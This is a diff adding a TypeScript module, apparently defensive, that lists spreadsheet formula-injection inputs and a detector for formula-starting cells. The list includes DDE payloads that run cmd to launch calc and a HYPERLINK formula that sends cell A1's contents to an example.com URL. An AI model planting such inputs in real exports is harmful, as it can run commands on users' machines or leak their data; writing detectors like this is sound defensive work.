@@ -1,0 +1,20 @@
+/** What somebody may call an app, or write into a review, to have a spreadsheet run it. */
+export const HOSTILE = [
+  "=1+1",
+  "+1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1,2)",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  '=HYPERLINK("https://example.com/?x="&A1,"click")',
+  '"=1+1"',
+  " \u200b=1+1",
+  "＝1+1",
+  'fine;=cmd|"/C calc"!A0\n@x\t+y',
+] as const
+
+/** Cells that a spreadsheet would run: it may begin one at the start, and wherever it takes a character for a separator. */
+export function formulas(text: string): string[] {
+  return text.split(/[;\t\r\n]/).filter((cell) => /^[\s"\u200b\u00ad]*[=+\-@＝＋－＠]/u.test(cell))
+}
